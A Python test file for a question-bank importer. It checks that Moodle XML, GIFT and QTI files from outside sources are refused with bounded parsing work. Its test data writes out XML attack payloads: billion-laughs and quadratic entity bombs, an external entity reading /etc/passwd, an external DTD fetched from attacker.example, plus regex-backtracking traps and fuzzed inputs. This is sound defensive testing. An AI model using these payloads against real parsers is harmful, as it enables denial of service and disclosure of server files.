"""Question banks from strangers: refused at once, by what is known before the work is done, in one sentence.

The bounds are on work, not on time: how much was fed to the XML parser, how much of a package was unpacked, whether
a file was read at all.
"""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from qinlian.authoring.interchange.gate import open_bank
from qinlian.authoring.interchange.gift import read_gift
from qinlian.authoring.interchange.moodle import read_moodle
from qinlian.authoring.interchange.qti import read_qti
from tests.hostile_banks import codes, manifest, put, told, zipped

FED = 65_536
"""Bytes that are fed to the parser at a time."""

ESSAY = (
    '<question type="essay"><name><text>{}</text></name>'
    '<questiontext format="html"><text>写</text></questiontext></question>'
)


@pytest.fixture
def fed(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """How many bytes each feeding of the XML parser brought."""
    from defusedxml.expatreader import DefusedExpatParser

    sizes: list[int] = []
    feed = DefusedExpatParser.feed

    def counted(self: Any, data: Any, *more: Any) -> None:
        sizes.append(len(data))
        feed(self, data, *more)

    monkeypatch.setattr(DefusedExpatParser, "feed", counted)
    return sizes


# --- entities and document types ---------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = {
    "billion laughs": f'<!DOCTYPE quiz [<!ENTITY l0 "笑">{LAUGHS}]><quiz>{ESSAY.format("&l9;")}</quiz>',
    "quadratic": f'<!DOCTYPE quiz [<!ENTITY a "{"笑" * 100_000}">]><quiz>{ESSAY.format("&a;" * 1000)}</quiz>',
    "external entity": f'<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]><quiz>{ESSAY.format("&x;")}</quiz>',
    "external dtd": f'<!DOCTYPE quiz SYSTEM "http://attacker.example/a.dtd"><quiz>{ESSAY.format("x")}</quiz>',
    "parameter entity": f'<!DOCTYPE quiz [<!ENTITY % p SYSTEM "file:///etc/hostname">%p;]><quiz>{ESSAY.format("x")}</quiz>',
}


@pytest.mark.parametrize("name", ENTITIES)
def test_entities_and_document_types_are_refused_where_they_are_declared(
    name: str, tmp_path: Path, fed: list[int]
) -> None:
    tail = b"<!-- " + b"x" * 5_000_000 + b" -->"
    (problem,) = told(put(tmp_path, ENTITIES[name].encode() + tail))
    assert problem.code == "E133"
    assert "passwd" not in str(problem)
    assert sum(fed) <= 8 * FED, "nothing beyond the declaration is parsed"


# --- size and depth ----------------------------------------------------------------------------


def test_nesting_stops_at_the_bound(tmp_path: Path, fed: list[int]) -> None:
    deep = b"<quiz>" + b"<question>" * 1_000_000
    assert codes(put(tmp_path, deep)) == ["E132"]
    assert sum(fed) <= 2 * FED


def test_elements_are_counted(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, fed: list[int]) -> None:
    monkeypatch.setattr("qinlian.authoring.interchange.safexml._MOST_ELEMENTS", 20_000)
    assert codes(put(tmp_path, b"<quiz>" + b"<question/>" * 500_000 + b"</quiz>")) == ["E132"]
    assert sum(fed) <= 20_000 * 11 + 2 * FED


def test_html_that_is_nested_too_deep_costs_its_question_alone() -> None:
    html = "&lt;b&gt;" * 3000 + "深"
    text = f"<quiz>{ESSAY.format('深').replace('写', html)}{ESSAY.format('好')}</quiz>"
    found, problems = read_moodle(text, "题库.xml")
    assert [one.who for one in found] == ["第 2 题“好”"]
    assert [(d.code, d.line) for d in problems if d.code == "W651"] == [("W651", 1)]


def test_a_text_without_end_costs_its_question_alone() -> None:
    text = f"<quiz>{ESSAY.format('长').replace('写', '长' * 100_001)}{ESSAY.format('好')}</quiz>"
    found, _ = read_moodle(text, "题库.xml")
    assert [one.who for one in found] == ["第 2 题“好”"]


def test_a_file_of_200_megabytes_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "题库.xml"
    with path.open("wb") as file:
        file.write(b"<quiz>")
        file.truncate(200_000_000)  # a hole: it takes no room on the disk
    read: list[int] = []
    real = io.BufferedReader

    def opened(self: Path, *mode: str, **more: Any) -> Any:
        class Counting(real):
            def read(self, size: int | None = -1, /) -> bytes:
                assert size is not None
                assert size >= 0
                read.append(size)
                return super().read(size)

        return Counting(io.FileIO(str(self)))

    monkeypatch.setattr(Path, "open", opened)
    (problem,) = told(path)
    assert (problem.code, "200 MB" in problem.message) == ("E132", True)
    assert sum(read) <= FED


def test_too_many_questions_stop_the_import(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr("qinlian.authoring.interchange.asked._MOST", 3)
    item = b'<assessmentItem identifier="i"><itemBody><extendedTextInteraction/></itemBody></assessmentItem>'
    names = [f"{n}.xml" for n in range(5)]
    package, _ = open_bank(zipped(tmp_path, {"imsmanifest.xml": manifest(*names), **dict.fromkeys(names, item)}))
    assert package is not None
    for found, problems in (
        read_moodle(f"<quiz>{ESSAY.format('x') * 5}</quiz>", "题库.xml"),
        read_gift("一{T}\n\n" * 5, "题库.txt"),
        read_qti(package, "题库.zip"),
    ):
        assert (found, problems[-1].code) == ((), "E132")


TRAPS = {
    "blank lines": "\n" * 2_000_000 + "::一::二{T}",
    "open braces": "{1:SA:" * 100_000,
    "spaces": "::一::" + " " * 1_000_000 + "{T}",
    "marks": "~=#" * 300_000,
    "a brace and no end": "{" + "T" * 1_000_000,
    "backslashes": "\\" * 1_000_001,
    "headings": "# " * 500_000,
    "underscores": "一" + "_" * 90_000 + "{=二}",
    "cloze": f"<quiz>{ESSAY.format('x').replace('essay', 'cloze').replace('写', '{1:SA:' * 15_000)}</quiz>",
    "comments": "<?xml version='1.0'?>" + "<!-- -->" * 8000 + " x",
    "white space before the root": "<?a?>" + " \n" * 200_000 + "x",
    "citations": f"<quiz>{ESSAY.format('x').replace('写', '依据：' + chr(10) * 90_000)}</quiz>",
}


@pytest.mark.slow
@pytest.mark.parametrize("name", TRAPS)
def test_no_text_makes_a_pattern_go_back_and_forth(name: str, tmp_path: Path) -> None:
    """Each of these takes hours where a pattern is quadratic or worse; the suite would not end."""
    assert told(put(tmp_path, TRAPS[name].encode(), "题库"))


# --- what is no bank, or a broken one ----------------------------------------------------------

GOOD = f"<quiz>{ESSAY.format('好')}</quiz>"
ODD: dict[str, tuple[bytes, str, str]] = {
    "a pdf": (b"%PDF-1.7\n", "题库.xml", "E131"),
    "empty": (b"", "题库.xml", "E131"),
    "white space": (b" \n\n", "题库.txt", "E131"),
    "a gzip backup": (b"\x1f\x8b\x08\0", "backup.mbz", "E131"),
    "nul bytes": (b"<quiz>\0\0</quiz>", "题库.xml", "E131"),
    "binary": (bytes(range(256)) * 10, "题库.gift", "E131"),
    "no zip": (b"PK\x03\x04" + b"x" * 100, "题库.zip", "E135"),
    "a page": (b"<html><body>x</body></html>", "题库.xml", "E131"),
    "qti 1.2": (b"<questestinterop/>", "题库.xml", "E131"),
    "another xml": (b"<svg/>", "题库.xml", "E131"),
    "truncated": (GOOD.encode()[:-30], "题库.xml", "E135"),
    "no question": (b"<quiz></quiz>", "题库.xml", "E135"),
    "control characters": (GOOD.replace("写", "\x01").encode(), "题库.xml", "E135"),
    "gb18030 undeclared": (GOOD.encode("gb18030"), "题库.xml", "E134"),
    "declared otherwise": (b'<?xml version="1.0" encoding="big5"?>' + GOOD.encode(), "题库.xml", "E134"),
    "an unknown encoding": (b'<?xml version="1.0" encoding="utf-7"?>' + GOOD.encode(), "题库.xml", "E134"),
    "an old workbook": (b"\xd0\xcf\x11\xe0" + b"\0" * 100, "题库.xls", "E121"),
    "csv as xlsx": ("题型,题干\n".encode(), "题库.xlsx", "E121"),
    "aiken": ("问\nA. 甲\nB. 乙\nANSWER: A\n".encode(), "题库.txt", "E131"),
    "prose": ("今天开会。\n".encode(), "题库.txt", "E131"),
}


@pytest.mark.parametrize("name", ODD)
def test_what_is_no_bank_gets_one_clear_sentence(name: str, tmp_path: Path) -> None:
    data, file, code = ODD[name]
    (problem,) = told(put(tmp_path, data, file))
    assert problem.code == code
    assert problem.hint


def test_a_folder_and_a_missing_file_are_said_to_be_none(tmp_path: Path) -> None:
    assert codes(tmp_path) == ["E101"]
    assert codes(tmp_path / "没有.xml") == ["E101"]


DECLARED = '<?xml version="1.0" encoding="{}"?>' + GOOD
ENCODED = {
    "utf-8": GOOD.encode(),
    "utf-8 with a mark": GOOD.encode("utf-8-sig"),
    "utf-16": DECLARED.format("UTF-16").encode("utf-16"),
    "gb18030 declared": DECLARED.format("GB18030").encode("gb18030"),
    "gbk declared": DECLARED.format("gbk").encode("gbk"),
}


@pytest.mark.parametrize("name", ENCODED)
def test_encodings_that_can_be_told_are_read(name: str, tmp_path: Path) -> None:
    bank, problems = open_bank(put(tmp_path, ENCODED[name]))
    assert problems == ()
    assert bank is not None
    (one,), _ = read_moodle(bank.text, "题库.xml")
    assert (one.asked.name, one.asked.stem) == ("好", "写")


# --- whatever the bytes are --------------------------------------------------------------------

ROOT = Path(__file__).parents[1]
SEEDS = [
    (ROOT / "golden" / "interchange" / "bank.xml").read_bytes(),
    (ROOT / "golden" / "interchange" / "bank.txt").read_bytes(),
    *(p.read_bytes() for p in sorted((ROOT / "fixtures" / "interchange").rglob("*")) if p.is_file()),
]
SPLICES = [
    b"",
    b"<",
    b">",
    b"</",
    b"&",
    b"]]>",
    b"{",
    b"}",
    b"~",
    b"=",
    b"#",
    b"::",
    b"\\",
    b"\n\n",
    b"\0",
    b"\xff",
    b"%",
    b"->",
]
SPLICES += [
    b'"',
    b"'",
    b"-1",
    b"999999999999",
    b"nan",
    b"1e400",
    b"format=",
    b"html",
    b"{1:SA:=a}",
    "\u200b".encode(),
    b"|",
]


@st.composite
def spoiled(draw: st.DrawFn) -> bytes:
    """A real bank with a few places cut out, doubled or written over."""
    data = draw(st.sampled_from(SEEDS))
    for _ in range(draw(st.integers(1, 4))):
        at, length = draw(st.integers(0, len(data))), draw(st.integers(0, 40))
        piece = draw(st.sampled_from([*SPLICES, data[at : at + length] * 3]))
        data = data[:at] + piece + data[at + draw(st.integers(0, length)) :]
    return data


@pytest.mark.slow
def test_no_bytes_make_the_import_raise(tmp_path: Path) -> None:
    @given(spoiled())
    @settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
    def brought(data: bytes) -> None:
        assert isinstance(told(put(tmp_path, data, "题库")), tuple)
        item = zipped(tmp_path, {"imsmanifest.xml": manifest("i.xml"), "i.xml": data})
        assert isinstance(told(item), tuple)
        assert isinstance(told(zipped(tmp_path, {"imsmanifest.xml": data, "i.xml": b"<assessmentItem/>"})), tuple)

    brought()
